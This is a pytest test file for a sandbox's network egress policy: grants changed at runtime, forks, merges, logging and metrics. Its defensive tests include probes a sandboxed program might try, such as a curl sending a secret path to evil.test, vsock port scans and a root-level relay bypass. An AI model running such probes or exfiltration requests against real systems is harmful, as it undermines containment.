# SPDX-License-Identifier: Apache-2.0
"""Grants over time: changed while connections run, inherited by forks, kept by a merge, told of in the log
and in figures; and what there is without one."""

from __future__ import annotations

import json
import threading

import httpx
import pytest
from egress_guest import ask, reason
from egress_world import World
from guest import py, sh, values
from served import wait_until

import podflare
from podflare import Client, Sandbox

# A thread in the sandbox's own Python that reads a stream which never ends, and says so when it does.
READER = """
import http.client, json, threading, time
lines, ended = 0, None
def read():
    global lines, ended
    c = http.client.HTTPConnection("127.0.0.1", 3128, timeout=100)
    c.request("GET", "http://api.test:{port}/stream", headers={{"Host": "api.test:{port}"}})
    try:
        reply = c.getresponse()
        assert reply.status == 200, reply.read()
        while reply.readline():
            lines += 1
        ended = "end"
    except Exception as exc:
        ended = type(exc).__name__
threading.Thread(target=read, daemon=True).start()
while not lines and ended is None:
    time.sleep(0.05)
"""


def start_reading(sandbox: Sandbox, world: World) -> None:
    py(sandbox, READER.format(port=world.http.port))
    assert values(sandbox, "print(json.dumps([lines > 0, ended]))") == [True, None]


def goes_on(sandbox: Sandbox) -> bool:
    """More lines come."""
    code = """
before, until = lines, time.monotonic() + 60
while lines == before and ended is None and time.monotonic() < until:
    time.sleep(0.05)
print(json.dumps(lines > before and ended is None))
"""
    return bool(values(sandbox, code))


def has_ended(sandbox: Sandbox) -> bool:
    code = """
until = time.monotonic() + 60
while ended is None and time.monotonic() < until:
    time.sleep(0.05)
print(json.dumps(ended is not None))
"""
    return bool(values(sandbox, code))


def status(sandbox: Sandbox, world: World, host: str = "api.test") -> str:
    """Of a request: "200", or why not."""
    told = ask(sandbox, f'say(get("http://{host}:{world.http.port}/json"))', root=False)
    return str(told["status"]) if told.get("status") == 200 else reason(told)


# Without a grant.


def test_without_a_grant_there_is_nothing(shared: Sandbox, outside: World):
    untouched = outside.untouched()
    told = ask(
        shared,
        """
def vsock(port):
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as s:
        s.settimeout(WAIT)
        try:
            s.connect((2, port))
            return "connected"
        except OSError as exc:
            return outcome(exc)
say([get("http://api.test/"), socks(b"api.test", 80), [vsock(5556) for _ in range(200)],
     sorted(k for k in os.environ if k.lower().endswith("_proxy"))])
""",
    )
    assert told[0] == {"outcome": "ECONNREFUSED"} and told[1] == "ECONNREFUSED"
    assert set(told[2]) == {"ECONNRESET"}  # at once, however often
    assert told[3] == []
    assert not shared.egress.on and shared.egress_log() == [] and untouched()


def test_with_a_grant_only_that_port_of_the_host_is_there(granted: Sandbox):
    told = ask(
        granted,
        """
seen = {}
for port in (1, 22, 80, 3128, 5555, 5557, 7070, 65535, 2**31, 2**32 - 2):
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as s:
        s.settimeout(WAIT)
        try:
            s.connect((2, port))
            seen[port] = "connected"
        except OSError as exc:
            seen[port] = outcome(exc)
say(seen)
""",
    )
    assert set(told.values()) == {"ECONNRESET"}, told


def test_the_proxy_is_the_same_by_vsock(granted: Sandbox, outside: World):
    """Root may do without the relay. It is the host that decides, so that nothing is won by that."""
    port = outside.http.port
    told = ask(
        granted,
        f"""
def straight(data):
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as s:
        s.settimeout(WAIT)
        s.connect((2, 5556))
        s.sendall(data)
        return read_reply(s)
say([straight(b"GET http://api.test:{port}/json HTTP/1.1\\r\\nHost: api.test:{port}\\r\\n\\r\\n"),
     straight(b"CONNECT evil.test:443 HTTP/1.1\\r\\nHost: evil.test:443\\r\\n\\r\\n")])
""",
    )
    assert told[0]["status"] == 200 and reason(told[1]) == "not_allowed"


def test_more_connections_than_there_may_be(granted: Sandbox, outside: World):
    """They wait for a place, for some seconds and not for ever; those that were there go on."""
    told = ask(
        granted,
        f"""
held, refused = [], 0
for _ in range(63):
    try:
        s = dial()
        s.sendall(b"CONNECT api.test:{outside.tcp.port} HTTP/1.1\\r\\nHost: api.test:{outside.tcp.port}\\r\\n\\r\\n")
        reply = read_reply(s)
        if reply["status"] == 200:
            held.append(s)
        else:
            refused += 1
    except (OSError, EOFError):
        refused += 1
for s in held:
    s.sendall(b"ping")
alive = sum(exactly(s, 4) == b"ping" for s in held)
say([len(held), alive, refused])
""",
    )
    held, alive, refused = told
    assert 0 < held == alive <= 64 and refused > 0 and held + refused == 63
    wait_until("a place is free again", lambda: status(granted, outside) == "200", 60)


# Changed while it runs.


def test_from_nothing_to_something_and_back(fresh, outside: World):
    port = outside.http.port
    with fresh() as s:
        py(s, "import os; os.environ['MINE'] = 'kept'")
        assert status(s, outside) == "ECONNREFUSED"
        grant = s.update_egress([f"api.test:{port}"])
        assert grant.on and grant.allow == (f"api.test:{port}",)
        assert status(s, outside) == "200"
        # A Python that runs already, and tools, find out.
        assert (
            py(s, "print(os.environ['HTTP_PROXY'], os.environ['MINE'])")
            == "http://127.0.0.1:3128 kept\n"
        )
        assert sh(s, f"curl -sSf http://api.test:{port}/json | head -c 1") == "{"
        assert not s.update_egress(False).on
        assert status(s, outside) == "ECONNREFUSED"
        assert py(s, "print(os.environ.get('HTTP_PROXY'), os.environ['MINE'])") == "None kept\n"
        r = s.run_code("pip install --retries 0 podflare-none", "bash")
        assert r.exit_code != 0 and "no network" in r.stderr  # as it was at first
        assert s.update_egress([f"api.test:{port}"]).on and status(s, outside) == "200"


def test_an_update_cuts_what_is_not_allowed_any_more(fresh, outside: World):
    port = outside.http.port
    with fresh(egress_allow=[f"api.test:{port}", f"other.test:{port}"]) as s:
        start_reading(s, outside)
        # Narrower, but not for this connection: it goes on.
        s.update_egress([f"api.test:{port}"])
        assert goes_on(s)
        assert status(s, outside, "other.test") == "not_allowed"
        # Wider: it goes on.
        s.update_egress([f"api.test:{port}", f"*.wild.test:{port}", "tests"])
        assert goes_on(s) and status(s, outside, "a.wild.test") == "200"
        # Without it: it is cut, here and at the server, and a new one is denied.
        s.update_egress([f"other.test:{port}"])
        assert has_ended(s)
        wait_until("the server sees the end", lambda: outside.http.streaming == 0, 30)
        assert status(s, outside) == "not_allowed" and status(s, outside, "other.test") == "200"
        (cut,) = [r for r in s.egress_log() if r.type == "end" and r.why == "policy_changed"]
        assert cut.host == "api.test" and (cut.bytes_down or 0) > 0


def test_a_tunnel_is_cut_as_well(fresh, outside: World):
    rule = {"host": "api.test", "ports": [outside.tcp.port], "tls": False}
    with fresh(egress_allow=[rule]) as s:
        py(
            s,
            f"""
import socket
t = socket.create_connection(("127.0.0.1", 3128), timeout=100)
t.sendall(b"CONNECT api.test:{outside.tcp.port} HTTP/1.1\\r\\nHost: api.test:{outside.tcp.port}\\r\\n\\r\\n")
head = b""
while not head.endswith(b"\\r\\n\\r\\n"):
    head += t.recv(1)
t.sendall(b"one")
assert t.recv(3) == b"one"
""",
        )
        s.update_egress(False)
        out = py(
            s,
            """
try:
    print("end" if t.recv(1) == b"" else "data")
except OSError as exc:
    print(type(exc).__name__)
""",
        )
        assert out in ("end\n", "ConnectionResetError\n")


def test_a_refused_update_changes_nothing(fresh, outside: World):
    port = outside.http.port
    with fresh(egress_allow=[f"api.test:{port}"]) as s:
        start_reading(s, outside)
        for bad, text in (
            (["ok.test", "a.*.test"], r"a\.\*\.test"),
            (["127.0.0.1"], r"127\.0\.0\.1"),
            (["no-such-group"], "no-such-group"),
            (["api.test:0"], "api.test:0"),
            ([{"host": "api.test", "colour": "red"}], "colour"),
        ):
            with pytest.raises(podflare.InvalidRequestError, match=text) as e:
                s.update_egress(bad)
            assert e.value.field == "egress.allow"
        assert s.egress.allow == (f"api.test:{port}",) and goes_on(s)


def test_bad_entries_make_no_sandbox(client: Client, outside: World):
    before = {one.id for one in Sandbox.list(client=client)}
    for entry in (
        "",
        "*",
        "*.test",
        "*.*.test",
        "api.test.",
        "a b",
        "[::1]",
        "0x7f.1",
        "localhost",
        "x.egress",
    ):
        with pytest.raises(podflare.InvalidRequestError) as e:
            Sandbox(client=client, egress_allow=["api.test", entry])
        assert e.value.field == "egress.allow" and repr(entry)[1:-1] in str(e.value), entry
    with pytest.raises(podflare.InvalidRequestError, match="other.test"):
        Sandbox(client=client, egress_allow=["api.test"], egress_inject={"other.test": {"A": "b"}})
    assert {one.id for one in Sandbox.list(client=client)} == before


# Copies.


def test_forks_inherit_what_is_allowed(fresh, outside: World):
    port = outside.http.port
    with fresh(egress_allow=[f"api.test:{port}"]) as s:
        start_reading(s, outside)
        with s.fork(2) as copies:
            for copy in copies:
                assert copy.egress.on and copy.egress.allow == (f"api.test:{port}",)
                assert status(copy, outside) == "200"
                assert status(copy, outside, "other.test") == "not_allowed"
                # The connection was the original's.
                assert has_ended(copy)
                # Records are each one's own.
                assert {r.sandbox for r in copy.egress_log()} == {copy.id}
            # What one may do from now on is its own affair.
            copies[0].update_egress([f"other.test:{port}"])
            assert status(copies[0], outside) == "not_allowed"
            assert status(copies[1], outside) == "200"
            (grandchild,) = copies[0].fork()
            with grandchild:
                assert grandchild.egress.allow == (f"other.test:{port}",)
                assert status(grandchild, outside, "other.test") == "200"
        assert goes_on(s)  # and it has gone on all the time


def test_forks_with_another_grant_or_none(fresh, outside: World):
    port = outside.http.port
    with fresh(egress_allow=[f"api.test:{port}"]) as s:
        (none,) = s.fork(egress=False)
        (other,) = s.fork(egress=[f"other.test:{port}"])
        with none, other:
            assert not none.egress.on and status(none, outside) == "ECONNREFUSED"
            assert py(none, "import os; print(os.environ.get('HTTP_PROXY'))") == "None\n"
            assert status(other, outside) == "not_allowed"
            assert status(other, outside, "other.test") == "200"
            with pytest.raises(podflare.InvalidRequestError, match=r"a\.\*"):
                s.fork(2, egress=["a.*"])
        assert status(s, outside) == "200"
    with fresh() as s:  # and something from nothing
        (some,) = s.fork(egress=[f"api.test:{port}"])
        with some:
            assert status(some, outside) == "200" and status(s, outside) == "ECONNREFUSED"


def test_the_winner_of_a_merge_keeps_its_own(fresh, outside: World):
    port = outside.http.port
    with fresh(egress_allow=[f"api.test:{port}"]) as s:
        id = s.id
        start_reading(s, outside)
        (copy,) = s.fork(egress=[f"other.test:{port}"])
        assert status(copy, outside, "other.test") == "200"
        before = copy.id
        s.merge_into(copy)
        assert s.id == id and s.egress.allow == (f"other.test:{port}",)
        assert status(s, outside) == "not_allowed"
        assert status(s, outside, "other.test") == "200"
        wait_until("the loser's connection is gone", lambda: outside.http.streaming == 0, 30)
        # It can be changed under its new name, and a fork of it inherits.
        s.update_egress([f"api.test:{port}"])
        assert status(s, outside) == "200"
        (child,) = s.fork()
        with child:
            assert status(child, outside) == "200"
        # The log of the one that is there, which says whose name it had when.
        names = [r.sandbox for r in s.egress_log()]
        assert set(names) == {before, id} and names == sorted(names, key=(before, id).index)


def test_a_fork_of_one_without_a_grant_has_none(shared: Sandbox, outside: World):
    (copy,) = shared.fork()
    with copy:
        assert not copy.egress.on and status(copy, outside) == "ECONNREFUSED"


def test_closing_ends_its_connections(fresh, outside: World):
    s = fresh(egress_allow=[f"api.test:{outside.http.port}"])
    start_reading(s, outside)
    s.close()
    wait_until("the server sees the end", lambda: outside.http.streaming == 0, 30)


# What is told.


def test_the_log(fresh, outside: World):
    port = outside.http.port
    with fresh(egress_allow=[f"api.test:{port}", f"api.test:{outside.https.port}"]) as s:
        s.upload(outside.ca.encode(), "/tmp/ca.pem")
        secret = "path-that-is-nobodys-business"
        r = s.run_code(
            f"curl -sSf http://api.test:{port}/bytes?n=1000\\&{secret} -o /dev/null; curl -s https://evil.test/{secret}",
            "bash",
        )
        sh(s, f"curl -sSf --cacert /tmp/ca.pem https://api.test:{outside.https.port}/json")
        wait_until("all have ended", lambda: sum(x.type == "end" for x in s.egress_log()) == 2, 30)
        log = s.egress_log()
        http = next(x for x in log if x.proto == "http" and x.type == "end")
        assert (http.host, http.port, http.method, http.rule) == (
            "api.test",
            port,
            "GET",
            f"api.test:{port}",
        )
        assert http.address is not None and outside.address in http.address
        assert http.exec_id == r.exec_id and (http.bytes_down or 0) >= 1000 and http.why is None
        assert (http.duration_ms or 0) >= 0
        (denied,) = [x for x in log if not x.allowed]
        assert (denied.proto, denied.host, denied.port) == ("connect", "evil.test", 443)
        assert (
            denied.reason == "not_allowed"
            and denied.address is None
            and denied.exec_id == r.exec_id
        )
        tunnel = next(x for x in log if x.proto == "connect" and x.type == "end")
        assert (
            tunnel.method is None
            and (tunnel.bytes_up or 0) > 200
            and (tunnel.bytes_down or 0) > 500
        )
        assert [x.id for x in log if x.type == "decision"] == [1, 2, 3]
        assert {x.sandbox for x in log} == {s.id}
        assert s.egress_log(limit=2) == log[-2:]
        assert secret not in json.dumps([dict(x.raw) for x in log])


def test_denials_of_several_calls_at_once(fresh, outside: World):
    """Each call that ran is told; one that did not run then is not."""
    with fresh(egress_allow=[f"api.test:{outside.http.port}"]) as s:
        results: dict[str, podflare.ExecResult] = {}

        def call(host: str) -> None:
            code = f"sleep 1; curl -s http://{host}/ >/dev/null; sleep 1"
            results[host] = s.exec(["bash", "-c", code], context=host.replace(".", "-"))

        threads = [threading.Thread(target=call, args=(h,)) for h in ("one.test", "two.test")]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        for host, r in results.items():
            assert host in {one.host for one in r.denied}
        assert s.run_code("1").denied == ()
        r = s.run_code("for i in $(seq 40); do curl -s http://h$i.test/ >/dev/null; done", "bash")
        assert len(r.denied) == 32


def test_metrics(http: httpx.Client, fresh, outside: World):
    def figure(name: str) -> float:
        text = http.get("/v1/metrics").text
        return sum(
            float(line.rsplit(" ", 1)[1]) for line in text.splitlines() if line.startswith(name)
        )

    allowed = 'podflare_egress_decisions_total{verdict="allow"'
    denied = 'podflare_egress_decisions_total{verdict="deny",reason="not_allowed"'
    down = 'podflare_egress_bytes_total{direction="down"'
    before = [figure(allowed), figure(denied), figure(down)]
    with fresh(egress_allow=[f"api.test:{outside.http.port}"]) as s:
        sh(
            s,
            f"curl -sSf http://api.test:{outside.http.port}/bytes?n=100000 -o /dev/null; curl -s http://no.test",
        )
        wait_until("the bytes are counted", lambda: figure(down) >= before[2] + 100000, 30)
        assert figure(allowed) == before[0] + 1 and figure(denied) == before[1] + 1
        assert figure("podflare_egress_proxies") >= 1 and figure("podflare_sandboxes") >= 1


def test_policy_test_tells_what_would_happen(build, daemon, granted: Sandbox, outside: World):
    import subprocess

    def cli(*args: str) -> tuple[int, str]:
        done = subprocess.run(
            [str(build / "podflare"), "policy", "test", *args],
            env={"PODFLARE_HOSTD_URL": daemon.url},
            capture_output=True,
            text=True,
            check=False,
        )
        return done.returncode, done.stdout

    port, untouched = outside.http.port, outside.untouched()
    code, out = cli("--sandbox", granted.id, f"api.test:{port}")
    assert code == 0 and out.startswith(f"allow  api.test:{port}\n") and outside.address in out
    code, out = cli("--sandbox", granted.id, f"private.test:{port}")
    assert code == 3 and "reason     address" in out and "192.168.7.7  refused" in out
    code, out = cli("--allow", "*.wild.test", "wild.test")
    assert code == 3 and "reason     not_allowed" in out and "hint" in out
    code, out = cli("--allow", "*.wild.test", "a.wild.test")
    assert code == 0 and "rule       *.wild.test" in out
    code, out = cli("--allow", "api.test", "0x7f.1")
    assert code == 3 and "reason     bad_host" in out
    entry = json.dumps({"host": "api.test", "ports": [80], "methods": ["GET"]})
    assert cli("--allow", entry, "--method", "POST", "--path", "/", "api.test:80")[0] == 3
    assert cli("--allow", entry, "--method", "GET", "--path", "/", "api.test:80")[0] == 0
    assert cli("--allow", "a.*.test", "api.test")[0] == 1
    assert cli(f"api.test:{port}")[0] == 0  # the operator's default
    assert untouched()
